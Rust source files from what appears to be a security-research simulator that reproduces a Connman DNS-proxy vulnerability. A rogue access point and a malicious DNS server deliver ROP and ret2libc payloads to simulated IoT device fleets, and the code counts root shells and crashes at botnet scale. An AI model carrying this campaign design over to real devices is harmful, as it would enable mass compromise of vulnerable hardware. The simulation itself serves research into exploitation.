    fn snapshot_fleet_matches_fresh_boot_fleet() {
        let spec = FleetSpec::heterogeneous(12, 0xF1EE7);
        let fresh = run_fleet_with(&spec, 2, false).render();
        let forked = run_fleet_with(&spec, 2, true).render();
        assert_eq!(fresh, forked);
    }
}
