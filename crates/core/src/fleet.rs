//! Fleet-scale rogue-AP scenario: N devices, one attacker, `--jobs`
//! workers.
//!
//! The paper closes with "exploit code designed to create a botnet" —
//! `tests/fleet.rs` walks a 7-device version of that story on a shared
//! radio environment. This module is the *throughput* version: every
//! device's boot + lure + attack session is independent, so the whole
//! fleet fans across a [`Runner`] pool.
//!
//! The steady-state iteration is allocation-lean by construction: each
//! worker thread keeps a persistent [`RadioEnvironment`] with one rogue
//! AP, one malicious DNS server per architecture (its payload labels
//! produced once from a [`TemplateSet`] relocation), per-profile
//! [`BootForge`]s for boot-once/fork-many victims, and a [`BufPool`]
//! whose warm buffers carry the DNS round trip without copying. Per
//! device, the only payload-sized work left is the VM session itself.
//!
//! Determinism: device `i` boots with
//! [`derive_seed`]`(base_seed, i)` and results merge in device order, so
//! [`FleetReport::render`] is byte-identical at any worker count.

use std::cell::RefCell;
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use cml_connman::{Daemon, Resolution};
use cml_dns::{BufPool, Name, RecordType, WireBuf};
use cml_exploit::{MaliciousDnsServer, RopMemcpyChain, Slides, TargetInfo, TemplateSet};
use cml_firmware::{Arch, BootForge, Firmware, FirmwareKind, Protections};
use cml_netsim::{
    share, AccessPoint, ApConfig, ApId, DhcpConfig, HwAddr, RadioEnvironment, Ssid, Station,
    UdpService,
};

use crate::lab::Lab;
use crate::runner::{derive_seed, Runner};

/// One device in the fleet.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DeviceSpec {
    /// Firmware profile the device ships.
    pub kind: FirmwareKind,
    /// Its CPU.
    pub arch: Arch,
}

/// A parameterized fleet.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FleetSpec {
    /// Base seed; device `i` boots with `derive_seed(base_seed, i)`.
    pub base_seed: u64,
    /// The devices, in fleet order.
    pub devices: Vec<DeviceSpec>,
}

impl FleetSpec {
    /// A heterogeneous fleet of `n` devices in the 10-device pattern
    /// 4× smart-TV (OpenELEC/ARMv7), 3× thermostat (Yocto/x86),
    /// 2× set-top (Tizen/ARMv7), 1× patched camera (Patched/ARMv7) —
    /// roughly the vulnerable/patched mix of the paper's survey.
    pub fn heterogeneous(n: usize, base_seed: u64) -> FleetSpec {
        const PATTERN: [DeviceSpec; 10] = [
            DeviceSpec {
                kind: FirmwareKind::OpenElec,
                arch: Arch::Armv7,
            },
            DeviceSpec {
                kind: FirmwareKind::OpenElec,
                arch: Arch::Armv7,
            },
            DeviceSpec {
                kind: FirmwareKind::OpenElec,
                arch: Arch::Armv7,
            },
            DeviceSpec {
                kind: FirmwareKind::OpenElec,
                arch: Arch::Armv7,
            },
            DeviceSpec {
                kind: FirmwareKind::Yocto,
                arch: Arch::X86,
            },
            DeviceSpec {
                kind: FirmwareKind::Yocto,
                arch: Arch::X86,
            },
            DeviceSpec {
                kind: FirmwareKind::Yocto,
                arch: Arch::X86,
            },
            DeviceSpec {
                kind: FirmwareKind::Tizen,
                arch: Arch::Armv7,
            },
            DeviceSpec {
                kind: FirmwareKind::Tizen,
                arch: Arch::Armv7,
            },
            DeviceSpec {
                kind: FirmwareKind::Patched,
                arch: Arch::Armv7,
            },
        ];
        FleetSpec {
            base_seed,
            devices: (0..n).map(|i| PATTERN[i % PATTERN.len()]).collect(),
        }
    }
}

/// What happened to one device.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DeviceOutcome {
    /// Stable device name (`"dev-0017 openelec/ARMv7"` style).
    pub name: String,
    /// Whether the firmware is a vulnerable build.
    pub vulnerable: bool,
    /// Whether the attack spawned a root shell on it.
    pub compromised: bool,
    /// Whether the daemon still serves after the attack round.
    pub alive: bool,
}

/// Cumulative per-phase wall time across all devices of a fleet run
/// (summed over workers, so the phases can exceed the run's wall
/// clock when `jobs > 1`).
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct PhaseTimings {
    /// Booting or forking the victim daemon and tuning its radio cell.
    pub forge_secs: f64,
    /// Resolving through the proxy and delivering the forged response
    /// over the (pooled) packet path.
    pub deliver_secs: f64,
    /// Executing the delivered payload in the victim VM.
    pub vm_secs: f64,
}

/// The merged result of a fleet run.
#[derive(Debug, Clone)]
pub struct FleetReport {
    /// Per-device outcomes, in fleet order.
    pub outcomes: Vec<DeviceOutcome>,
    /// Wall-clock time of the attack fan-out (excludes the shared
    /// firmware/recon prep).
    pub elapsed: Duration,
    /// Worker count used.
    pub jobs: usize,
    /// Where the per-device time went, summed across workers.
    pub phases: PhaseTimings,
}

impl FleetReport {
    /// Number of devices with a root shell.
    pub fn compromised(&self) -> usize {
        self.outcomes.iter().filter(|o| o.compromised).count()
    }

    /// Number of devices still serving.
    pub fn survivors(&self) -> usize {
        self.outcomes.iter().filter(|o| o.alive).count()
    }

    /// Devices attacked per second of wall time.
    pub fn devices_per_sec(&self) -> f64 {
        self.outcomes.len() as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }

    /// Deterministic rendering — excludes timing so serial and parallel
    /// runs of the same [`FleetSpec`] produce identical bytes.
    pub fn render(&self) -> String {
        let mut out = format!(
            "fleet: {} devices, {} compromised, {} survivors\n",
            self.outcomes.len(),
            self.compromised(),
            self.survivors()
        );
        for o in &self.outcomes {
            let verdict = if o.compromised {
                "root shell"
            } else if o.alive {
                "alive"
            } else {
                "crashed"
            };
            out.push_str(&format!("{}: {}\n", o.name, verdict));
        }
        out
    }
}

/// Runs the rogue-AP attack against every device in the spec on `jobs`
/// workers (0 = one per CPU).
///
/// Attacker prep (one recon per architecture, one firmware build per
/// distinct profile) happens once, serially; the per-device boot +
/// lure + attack sessions fan across the pool, where each worker
/// compiles its payload templates on first use and reuses them for
/// every later device.
///
/// # Panics
///
/// Panics if reconnaissance or payload-template construction fails for
/// an architecture present in the spec — the fleet scenario is only
/// meaningful with working exploits.
pub fn run_fleet(spec: &FleetSpec, jobs: usize) -> FleetReport {
    run_fleet_with(spec, jobs, false)
}

/// Per-worker persistent attack state: built on the worker's first
/// device of a run, reused for every later one.
struct Worker {
    /// Which [`run_fleet_with`] invocation this state belongs to; a
    /// stale generation (a previous run on the same thread) rebuilds.
    run_gen: u64,
    env: RadioEnvironment,
    ap: ApId,
    /// Architectures whose malicious server is already on the air.
    servers: Vec<Arch>,
    /// Boot-once/fork-many snapshots, keyed by device profile.
    forges: Vec<(DeviceSpec, BootForge)>,
    /// Compiled payload templates, keyed by (strategy, arch).
    templates: TemplateSet,
    /// Warm DNS round-trip buffers.
    pool: BufPool,
}

thread_local! {
    static WORKER: RefCell<Option<Worker>> = const { RefCell::new(None) };
}

/// Distinguishes runs so a worker thread surviving across calls (the
/// `jobs == 1` path runs on the caller) never reuses another run's
/// leases or servers.
static RUN_GEN: AtomicU64 = AtomicU64::new(0);

/// Address the malicious resolver for `arch` listens on.
fn server_addr(arch: Arch) -> Ipv4Addr {
    let idx = Arch::ALL
        .iter()
        .position(|a| *a == arch)
        .expect("known arch") as u8;
    Ipv4Addr::new(10, 0, 0, 53 + idx)
}

/// Adapts [`MaliciousDnsServer`] to the netsim service trait, routing
/// the buffered entry point to the server's zero-copy encoder.
struct EvilService(MaliciousDnsServer);

impl UdpService for EvilService {
    fn handle_datagram(&mut self, payload: &[u8]) -> Option<Vec<u8>> {
        self.0.handle(payload)
    }

    fn handle_datagram_into(&mut self, payload: &[u8], out: &mut Vec<u8>) -> bool {
        let mut buf = WireBuf::from_vec(std::mem::take(out));
        let answered = self.0.handle_into(payload, &mut buf);
        *out = buf.into_vec();
        answered
    }
}

/// [`run_fleet`] with an explicit boot path: when `snapshot` is true,
/// each worker boots one daemon per firmware profile and forks it per
/// device instead of booting every device from scratch. The report
/// renders byte-identically either way.
pub fn run_fleet_with(spec: &FleetSpec, jobs: usize, snapshot: bool) -> FleetReport {
    let ssid = Ssid::new("SmartHome");
    let protections = Protections::full();

    // One recon per architecture, from the attacker's own replica;
    // workers compile payload templates against these references.
    let mut references: Vec<(Arch, TargetInfo)> = Vec::new();
    for arch in Arch::ALL {
        if spec.devices.iter().any(|d| d.arch == arch) {
            let lab = Lab::new(FirmwareKind::OpenElec, arch).with_protections(protections);
            let target = lab.recon().expect("vulnerable replica recon succeeds");
            references.push((arch, target));
        }
    }
    // One firmware build per distinct profile.
    let mut firmwares: Vec<(DeviceSpec, Firmware)> = Vec::new();
    for d in &spec.devices {
        if !firmwares.iter().any(|(k, _)| k == d) {
            firmwares.push((*d, Firmware::build(d.kind, d.arch)));
        }
    }

    let run_gen = RUN_GEN.fetch_add(1, Ordering::Relaxed) + 1;
    let start = Instant::now();
    let runner = Runner::new(jobs);
    let results = runner.run(spec.devices.clone(), |i, d| {
        WORKER.with(|slot| {
            let mut slot = slot.borrow_mut();
            let worker = match slot.as_mut() {
                Some(w) if w.run_gen == run_gen => w,
                _ => {
                    let mut env = RadioEnvironment::new();
                    let ap = env.add_ap(AccessPoint::new(ApConfig {
                        ssid: ssid.clone(),
                        bssid: HwAddr::local(1),
                        signal_dbm: -40,
                        dhcp: DhcpConfig::new([10, 0, 0], Ipv4Addr::new(10, 0, 0, 53)),
                    }));
                    *slot = Some(Worker {
                        run_gen,
                        env,
                        ap,
                        servers: Vec::new(),
                        forges: Vec::new(),
                        templates: TemplateSet::new(),
                        pool: BufPool::new(),
                    });
                    slot.as_mut().expect("just set")
                }
            };
            attack_device(
                worker,
                spec.base_seed,
                &ssid,
                protections,
                snapshot,
                i,
                d,
                &firmwares,
                &references,
            )
        })
    });

    let mut outcomes = Vec::with_capacity(results.len());
    let mut phases = PhaseTimings::default();
    for (outcome, [forge, deliver, vm]) in results {
        outcomes.push(outcome);
        phases.forge_secs += forge;
        phases.deliver_secs += deliver;
        phases.vm_secs += vm;
    }
    FleetReport {
        outcomes,
        elapsed: start.elapsed(),
        jobs: runner.jobs(),
        phases,
    }
}

/// One device's boot + lure + attack session against the worker's
/// persistent environment. Returns the outcome plus
/// `[forge, deliver, vm]` phase seconds.
#[allow(clippy::too_many_arguments)]
fn attack_device(
    worker: &mut Worker,
    base_seed: u64,
    ssid: &Ssid,
    protections: Protections,
    snapshot: bool,
    i: usize,
    d: DeviceSpec,
    firmwares: &[(DeviceSpec, Firmware)],
    references: &[(Arch, TargetInfo)],
) -> (DeviceOutcome, [f64; 3]) {
    let Worker {
        env,
        ap,
        servers,
        forges,
        templates,
        pool,
        ..
    } = worker;

    let t_forge = Instant::now();
    // First device of an architecture on this worker: relocate the
    // payload template at the reference slides and put its server on
    // the air. Every later device of the arch reuses the live server.
    let dns = server_addr(d.arch);
    if !servers.contains(&d.arch) {
        let reference = &references
            .iter()
            .find(|(a, _)| *a == d.arch)
            .expect("reconned")
            .1;
        let strategy = RopMemcpyChain::new(d.arch);
        let template = templates
            .get_or_compile(&strategy, reference)
            .expect("fleet payload templates against the replica");
        let labels = template
            .instantiate(&Slides::identity())
            .expect("identity relocation labelizes");
        let evil = MaliciousDnsServer::with_labels(labels, template.name());
        env.register_service(dns, share(EvilService(evil)));
        servers.push(d.arch);
    }
    env.ap_mut(*ap).expect("worker AP on the air").set_dns(dns);
    env.clear_events();

    let seed = derive_seed(base_seed, i as u64);
    let mac = HwAddr::local((i % u16::MAX as usize) as u16);
    let mut fresh_daemon;
    let daemon: &mut Daemon = if snapshot {
        if !forges.iter().any(|(k, _)| *k == d) {
            let fw = &firmwares.iter().find(|(k, _)| *k == d).expect("prebuilt").1;
            forges.push((d, fw.forge(protections, seed)));
        }
        forges
            .iter_mut()
            .find(|(k, _)| *k == d)
            .expect("just added")
            .1
            .fork(seed)
    } else {
        let fw = &firmwares.iter().find(|(k, _)| *k == d).expect("prebuilt").1;
        fresh_daemon = fw.boot(protections, seed);
        &mut fresh_daemon
    };
    let mut station = Station::new(mac, ssid.clone());
    station.rescan(env);
    let forge_secs = t_forge.elapsed().as_secs_f64();

    // The attack session: cache-missing lookup → proxied query to the
    // rogue resolver → forged response into a pooled buffer → VM run.
    let host = Name::parse(&format!("telemetry-{i}.vendor.example")).expect("valid name");
    let mut deliver_secs = 0.0;
    let mut vm_secs = 0.0;
    let mut compromised = false;
    if daemon.is_running() && station.association().is_some() {
        let t = Instant::now();
        match daemon.resolve(&host, RecordType::A) {
            Resolution::Query(query) => {
                let mut buf = pool.checkout();
                let answered = station.query_dns_into(env, &query, buf.as_mut_vec());
                deliver_secs = t.elapsed().as_secs_f64();
                if answered {
                    let t_vm = Instant::now();
                    compromised = daemon.deliver_response(buf.as_bytes()).is_root_shell();
                    vm_secs = t_vm.elapsed().as_secs_f64();
                }
                pool.checkin(buf);
            }
            Resolution::Cached(_) => {
                deliver_secs = t.elapsed().as_secs_f64();
            }
        }
    }

    let outcome = DeviceOutcome {
        name: format!("dev-{i:04} {}/{}", d.kind.os_name(), d.arch),
        vulnerable: d.kind.is_vulnerable(),
        compromised,
        alive: daemon.is_running(),
    };
    (outcome, [forge_secs, deliver_secs, vm_secs])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn vulnerable_devices_fall_and_patched_survive() {
        let spec = FleetSpec::heterogeneous(10, 0xF1EE7);
        let report = run_fleet(&spec, 2);
        assert_eq!(report.outcomes.len(), 10);
        for o in &report.outcomes {
            if o.vulnerable {
                assert!(o.compromised, "{} should fall", o.name);
                assert!(!o.alive, "{} daemon should be dead", o.name);
            } else {
                assert!(!o.compromised, "{} is patched", o.name);
                assert!(o.alive, "{} should survive", o.name);
            }
        }
        assert_eq!(report.compromised(), 9);
        assert_eq!(report.survivors(), 1);
    }

    #[test]
    fn render_is_deterministic_across_worker_counts() {
        let spec = FleetSpec::heterogeneous(12, 42);
        let serial = run_fleet(&spec, 1).render();
        let parallel = run_fleet(&spec, 4).render();
        assert_eq!(serial, parallel);
    }

    #[test]
    fn snapshot_fleet_matches_fresh_boot_fleet() {
        let spec = FleetSpec::heterogeneous(12, 0xF1EE7);
        let fresh = run_fleet_with(&spec, 2, false).render();
        let forked = run_fleet_with(&spec, 2, true).render();
        assert_eq!(fresh, forked);
    }

    #[test]
    fn phase_timings_cover_the_session() {
        let spec = FleetSpec::heterogeneous(6, 7);
        let report = run_fleet(&spec, 1);
        let p = report.phases;
        assert!(p.forge_secs > 0.0, "boot time is accounted");
        assert!(p.deliver_secs > 0.0, "delivery time is accounted");
        assert!(p.vm_secs > 0.0, "vm time is accounted");
    }
}
