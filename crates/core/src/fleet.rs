//! Fleet-scale rogue-AP scenario: cohorts of devices, one attacker,
//! `--jobs` workers, bounded memory at any fleet size.
//!
//! The paper closes with "exploit code designed to create a botnet" —
//! `tests/fleet.rs` walks a 7-device version of that story on a shared
//! radio environment. This module is the *population* version: a
//! campaign is described by a handful of [`CohortSpec`] descriptors
//! (firmware version, CPU, mitigation config, packet-loss profile,
//! boot-entropy model, device count), never by a materialized
//! per-device list, so a million-device fleet costs the same to
//! describe as a ten-device one.
//!
//! # Scaling architecture
//!
//! * **Shared copy-on-write boots.** Each firmware/protection profile
//!   is booted **once** into a [`SharedForge`]; every worker spawns a
//!   private [`BootForge`] whose snapshot pages ride along by `Arc`
//!   refcount and whose dirty sets are its own. Memory is
//!   O(workers × profiles), not O(workers × profiles × boots).
//! * **Class-level sessions.** Embedded devices are notorious for
//!   boot-time entropy starvation: a cohort's
//!   [`entropy_bits`](CohortSpec::entropy_bits) bounds how many
//!   distinct ASLR draws its population actually exhibits (default
//!   [`DEFAULT_COHORT_ENTROPY_BITS`], i.e. 4096 layouts; use
//!   [`ENTROPY_FULL`] for per-device unique layouts). Devices are
//!   partitioned into contiguous *address classes* sharing one boot
//!   layout; the attack session (fork → lookup → forged answer → VM
//!   run) executes once per class and its verdict fans out to every
//!   device of the class.
//! * **Batched answer fan-out.** A forked victim's first lookup is a
//!   pure function of its snapshot, so one [`AnswerBank`] per cohort
//!   captures the relocated exploit response once; every further class
//!   of the cohort is answered by a byte-compare and a borrow
//!   ([`fan_out`] is allocation-free, see `tests/zero_alloc.rs`).
//! * **Streaming reports.** Workers fold verdicts into per-cohort
//!   integer accumulators ([`CohortAccum`]) per chunk; chunk partials
//!   merge commutatively, so the report stays O(cohorts) and
//!   [`FleetReport::render`] is byte-identical at any `--jobs`. The
//!   materialized per-device record vector is an opt-in ablation arm
//!   ([`FleetConfig::materialize`]), not the steady state.
//!
//! Determinism: the class containing device `i` boots with
//! [`derive_seed`]`(base_seed, first_device_of_class)` and per-device
//! packet-loss draws are a pure function of `(base_seed, i)`, so every
//! aggregate is independent of worker count and chunk boundaries.

use std::cell::RefCell;
use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::ops::Range;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use cml_connman::{ProxyOutcome, Resolution};
use cml_dns::{BufPool, Name, RecordType, WireBuf};
use cml_exploit::{
    AnswerBank, ArmGadgetExeclp, CodeInjection, ExploitStrategy, MaliciousDnsServer, Ret2Libc,
    RiscvGadgetSystem, RopMemcpyChain, Slides, TargetInfo, TemplateSet,
};
use cml_firmware::{Arch, BootForge, Firmware, FirmwareKind, Protections, SharedForge};
use cml_netsim::{
    share, AccessPoint, ApConfig, ApId, DhcpConfig, HwAddr, RadioEnvironment, ResolverCache, Ssid,
    Station, UdpService,
};

use crate::arena::Bump;
use crate::lab::Lab;
use crate::runner::{derive_seed, Runner};

/// Default per-cohort boot-entropy model: 2¹² = 4096 distinct ASLR
/// layouts per cohort, the "entropy-starved embedded boot" regime the
/// IoT literature documents. Raise to [`ENTROPY_FULL`] for per-device
/// unique layouts.
pub const DEFAULT_COHORT_ENTROPY_BITS: u8 = 12;

/// Sentinel entropy: every device draws its own boot layout (the
/// pre-cohort behavior, and the honest setting for benchmarking
/// per-device session cost).
pub const ENTROPY_FULL: u8 = 63;

/// Salt mixed into per-device packet-loss draws so they decorrelate
/// from the boot-seed stream.
const LOSS_SALT: u64 = 0x4C4F_5353; // "LOSS"

/// One cohort: a contiguous block of identically-provisioned devices.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CohortSpec {
    /// Cohort name (used in reports and as the DNS label the cohort's
    /// telemetry hostname carries).
    pub name: String,
    /// Firmware profile the cohort ships.
    pub kind: FirmwareKind,
    /// Its CPU.
    pub arch: Arch,
    /// Mitigation configuration its vendor enabled.
    pub protections: Protections,
    /// Devices in the cohort.
    pub count: u64,
    /// Packet-loss probability of the cohort's radio environment, in
    /// parts per million (responses lost in flight; a lost response
    /// leaves the device alive and uncompromised).
    pub loss_ppm: u32,
    /// Boot-entropy model: the cohort exhibits at most
    /// `2^entropy_bits` distinct boot layouts (≥ 63 means every device
    /// draws its own).
    pub entropy_bits: u8,
}

impl CohortSpec {
    /// A cohort with no packet loss and the default entropy model.
    pub fn new(name: &str, kind: FirmwareKind, arch: Arch, count: u64) -> CohortSpec {
        CohortSpec {
            name: name.to_string(),
            kind,
            arch,
            protections: Protections::full(),
            count,
            loss_ppm: 0,
            entropy_bits: DEFAULT_COHORT_ENTROPY_BITS,
        }
    }

    /// Distinct boot layouts the cohort's population draws.
    pub fn classes(&self) -> u64 {
        if self.entropy_bits >= ENTROPY_FULL || self.count == 0 {
            return self.count;
        }
        self.count.min(1u64 << self.entropy_bits)
    }

    /// Devices per address class (the last class may be shorter).
    pub fn run_len(&self) -> u64 {
        let classes = self.classes().max(1);
        self.count.div_ceil(classes).max(1)
    }

    /// Parses a comma-separated cohort list:
    /// `name=kind/arch/prot/count[/loss=P%|PPM][/entropy=BITS]`, e.g.
    /// `tv=openelec/armv7/full/400000,cam=patched/armv7/full/100`.
    ///
    /// # Errors
    ///
    /// Returns a human-readable message naming the offending field.
    pub fn parse_list(s: &str) -> Result<Vec<CohortSpec>, String> {
        let mut out = Vec::new();
        for (idx, part) in s.split(',').enumerate() {
            let part = part.trim();
            if part.is_empty() {
                continue;
            }
            let (name, rest) = part
                .split_once('=')
                .ok_or_else(|| format!("cohort {idx}: expected name=..., got {part:?}"))?;
            let mut fields = rest.split('/');
            let kind = match fields.next() {
                Some("openelec") => FirmwareKind::OpenElec,
                Some("yocto") => FirmwareKind::Yocto,
                Some("tizen") => FirmwareKind::Tizen,
                Some("patched") => FirmwareKind::Patched,
                other => return Err(format!("cohort {name}: unknown firmware {other:?}")),
            };
            let arch = match fields.next() {
                Some("x86") => Arch::X86,
                Some("arm") | Some("armv7") => Arch::Armv7,
                Some("riscv") | Some("rv32") => Arch::Riscv,
                other => return Err(format!("cohort {name}: unknown arch {other:?}")),
            };
            let protections = match fields.next() {
                Some("none") => Protections::none(),
                Some("wxorx") => Protections::wxorx(),
                Some("full") => Protections::full(),
                Some("canary") => Protections::full().with_canary(),
                Some("cfi") => Protections::full().with_cfi(),
                Some("pie") => Protections::full().with_pie(),
                other => return Err(format!("cohort {name}: unknown protections {other:?}")),
            };
            let count: u64 = fields
                .next()
                .and_then(|v| v.parse().ok())
                .ok_or_else(|| format!("cohort {name}: bad device count"))?;
            let mut spec = CohortSpec {
                name: name.to_string(),
                kind,
                arch,
                protections,
                count,
                loss_ppm: 0,
                entropy_bits: DEFAULT_COHORT_ENTROPY_BITS,
            };
            for extra in fields {
                if let Some(v) = extra.strip_prefix("loss=") {
                    spec.loss_ppm = if let Some(pct) = v.strip_suffix('%') {
                        let pct: f64 = pct
                            .parse()
                            .map_err(|_| format!("cohort {name}: bad loss {v:?}"))?;
                        (pct * 10_000.0).round() as u32
                    } else {
                        v.parse()
                            .map_err(|_| format!("cohort {name}: bad loss {v:?}"))?
                    };
                } else if let Some(v) = extra.strip_prefix("entropy=") {
                    spec.entropy_bits = v
                        .parse()
                        .map_err(|_| format!("cohort {name}: bad entropy {v:?}"))?;
                } else {
                    return Err(format!("cohort {name}: unknown field {extra:?}"));
                }
            }
            out.push(spec);
        }
        if out.is_empty() {
            return Err("no cohorts given".to_string());
        }
        Ok(out)
    }
}

/// A parameterized fleet: a base seed plus cohort descriptors. Device
/// membership is *computed*, never materialized — the spec for 10⁶
/// devices is a few hundred bytes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FleetSpec {
    /// Base seed; the class containing device `i` boots with
    /// `derive_seed(base_seed, first_device_of_class)`.
    pub base_seed: u64,
    /// The cohorts, in fleet order (cohort `c` occupies the device
    /// index range `[starts[c], starts[c] + counts[c])`).
    pub cohorts: Vec<CohortSpec>,
}

impl FleetSpec {
    /// Total devices across cohorts.
    pub fn devices(&self) -> u64 {
        self.cohorts.iter().map(|c| c.count).sum()
    }

    /// A single-cohort fleet: `n` smart-TVs (OpenELEC 1.34 / ARMv7,
    /// full W⊕X+ASLR) — the homogeneous headline scenario.
    pub fn homogeneous(n: u64, base_seed: u64) -> FleetSpec {
        FleetSpec {
            base_seed,
            cohorts: vec![CohortSpec::new(
                "tv",
                FirmwareKind::OpenElec,
                Arch::Armv7,
                n,
            )],
        }
    }

    /// A heterogeneous fleet of `n` devices in four cohorts mirroring
    /// the paper's survey mix — 40% smart-TV (OpenELEC/ARMv7, full
    /// mitigations), 30% thermostat (Yocto/x86, W⊕X only), 20% set-top
    /// (Tizen/ARMv7, full, on a lossy 2% link), 10% patched camera
    /// (Connman 1.35) — so firmware versions, mitigation configs and
    /// packet-loss profiles all vary across the population.
    pub fn heterogeneous(n: u64, base_seed: u64) -> FleetSpec {
        let tv = n * 4 / 10;
        let thermo = n * 3 / 10;
        let settop = n * 2 / 10;
        let cam = n - tv - thermo - settop;
        let mut cohorts = vec![
            CohortSpec::new("tv", FirmwareKind::OpenElec, Arch::Armv7, tv),
            CohortSpec {
                protections: Protections::wxorx(),
                ..CohortSpec::new("thermostat", FirmwareKind::Yocto, Arch::X86, thermo)
            },
            CohortSpec {
                loss_ppm: 20_000,
                ..CohortSpec::new("settop", FirmwareKind::Tizen, Arch::Armv7, settop)
            },
            CohortSpec::new("camera", FirmwareKind::Patched, Arch::Armv7, cam),
        ];
        cohorts.retain(|c| c.count > 0);
        FleetSpec { base_seed, cohorts }
    }

    /// Device-index range of cohort `c`.
    fn cohort_range(&self, c: usize) -> Range<u64> {
        let start: u64 = self.cohorts[..c].iter().map(|x| x.count).sum();
        start..start + self.cohorts[c].count
    }
}

/// What one attack session (or its absence) did to a device. The
/// buckets form the per-cohort fault histogram.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub enum Verdict {
    /// Arbitrary code executed and spawned a root shell.
    Shell = 0,
    /// The daemon crashed (denial of service).
    Crash = 1,
    /// Hijacked execution ended in a clean exit.
    Exit = 2,
    /// The response was rejected (header gate or parse, including the
    /// patched 1.35 bounds check); the daemon keeps serving.
    Refused = 3,
    /// The response was accepted and served benignly.
    Served = 4,
    /// The daemon was already down before the attack round.
    Down = 5,
    /// The forged response was lost in flight; the device was never
    /// attacked this round.
    Lost = 6,
}

impl Verdict {
    /// Number of buckets.
    pub const COUNT: usize = 7;

    /// All verdicts, histogram order.
    pub const ALL: [Verdict; Verdict::COUNT] = [
        Verdict::Shell,
        Verdict::Crash,
        Verdict::Exit,
        Verdict::Refused,
        Verdict::Served,
        Verdict::Down,
        Verdict::Lost,
    ];

    /// Report label.
    pub fn label(self) -> &'static str {
        match self {
            Verdict::Shell => "shell",
            Verdict::Crash => "crash",
            Verdict::Exit => "exit",
            Verdict::Refused => "refused",
            Verdict::Served => "served",
            Verdict::Down => "down",
            Verdict::Lost => "lost",
        }
    }

    /// Whether the daemon still serves after this verdict.
    pub fn alive(self) -> bool {
        matches!(self, Verdict::Refused | Verdict::Served | Verdict::Lost)
    }

    /// Whether the attacker got a root shell.
    pub fn compromised(self) -> bool {
        self == Verdict::Shell
    }

    fn classify(outcome: &ProxyOutcome) -> Verdict {
        match outcome {
            ProxyOutcome::Compromised(_) => Verdict::Shell,
            ProxyOutcome::Crashed(_) => Verdict::Crash,
            ProxyOutcome::HijackedExit { .. } => Verdict::Exit,
            ProxyOutcome::Rejected(_) | ProxyOutcome::ParseFailed { .. } => Verdict::Refused,
            ProxyOutcome::Answered { .. } => Verdict::Served,
            ProxyOutcome::DaemonDown => Verdict::Down,
            // `ProxyOutcome` is non-exhaustive; a future outcome that
            // doesn't kill the daemon reads as a benign serve.
            _ => Verdict::Served,
        }
    }
}

/// Streaming per-cohort accumulator: everything the report needs, in
/// integers, so chunk partials merge commutatively and the rendered
/// output cannot depend on worker count.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CohortAccum {
    /// Devices folded in.
    pub devices: u64,
    /// Devices with a root shell.
    pub compromised: u64,
    /// Devices whose daemon still serves.
    pub alive: u64,
    /// Devices whose forged response was lost in flight.
    pub lost: u64,
    /// Fault histogram over [`Verdict::ALL`].
    pub histo: [u64; Verdict::COUNT],
}

impl CohortAccum {
    /// Folds `n` devices sharing `verdict` into the accumulator.
    pub fn fold(&mut self, verdict: Verdict, n: u64) {
        self.devices += n;
        if verdict.compromised() {
            self.compromised += n;
        }
        if verdict.alive() {
            self.alive += n;
        }
        if verdict == Verdict::Lost {
            self.lost += n;
        }
        self.histo[verdict as usize] += n;
    }

    /// Merges another accumulator (commutative, associative).
    pub fn merge(&mut self, other: &CohortAccum) {
        self.devices += other.devices;
        self.compromised += other.compromised;
        self.alive += other.alive;
        self.lost += other.lost;
        for (a, b) in self.histo.iter_mut().zip(other.histo.iter()) {
            *a += b;
        }
    }
}

/// Whether device `i`'s forged response is lost in flight — a pure
/// function of `(base_seed, i)`, independent of scheduling.
#[inline]
fn response_lost(base_seed: u64, i: u64, loss_ppm: u32) -> bool {
    loss_ppm != 0 && derive_seed(base_seed ^ LOSS_SALT, i) % 1_000_000 < loss_ppm as u64
}

/// The batched answer fan-out: applies one class session's `verdict`
/// to every device in `range`, drawing each device's packet-loss fate
/// from `(base_seed, index)`. This is the entire per-device cost of
/// the streamed fleet path; it performs **zero heap allocations**
/// (`tests/zero_alloc.rs` pins that under a counting allocator).
pub fn fan_out(
    verdict: Verdict,
    range: Range<u64>,
    base_seed: u64,
    loss_ppm: u32,
    acc: &mut CohortAccum,
) {
    if loss_ppm == 0 {
        acc.fold(verdict, range.end.saturating_sub(range.start));
        return;
    }
    for i in range {
        if response_lost(base_seed, i, loss_ppm) {
            acc.fold(Verdict::Lost, 1);
        } else {
            acc.fold(verdict, 1);
        }
    }
}

/// One materialized device record (the opt-in O(devices) ablation arm;
/// the streamed path never builds these).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DeviceRecord {
    /// Global device index.
    pub index: u64,
    /// Cohort the device belongs to.
    pub cohort: u32,
    /// What happened to it.
    pub verdict: Verdict,
}

/// Cumulative per-phase wall time across all sessions of a fleet run
/// (summed over workers, so the phases can exceed the run's wall
/// clock when `jobs > 1`).
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct PhaseTimings {
    /// Forking (or booting) the victim daemon.
    pub forge_secs: f64,
    /// Resolving through the proxy and obtaining the forged response
    /// (answer bank or live packet path).
    pub deliver_secs: f64,
    /// Executing the delivered payload in the victim VM.
    pub vm_secs: f64,
}

/// One cohort's merged results.
#[derive(Debug, Clone)]
pub struct CohortReport {
    /// The cohort description.
    pub spec: CohortSpec,
    /// Its merged accumulator.
    pub accum: CohortAccum,
}

/// The merged result of a fleet run.
#[derive(Debug, Clone)]
pub struct FleetReport {
    /// Total devices attacked (or lost) this run.
    pub devices: u64,
    /// Per-cohort results, in fleet order.
    pub cohorts: Vec<CohortReport>,
    /// Materialized per-device records (only with
    /// [`FleetConfig::materialize`]; `None` on the streamed path).
    pub outcomes: Option<Vec<DeviceRecord>>,
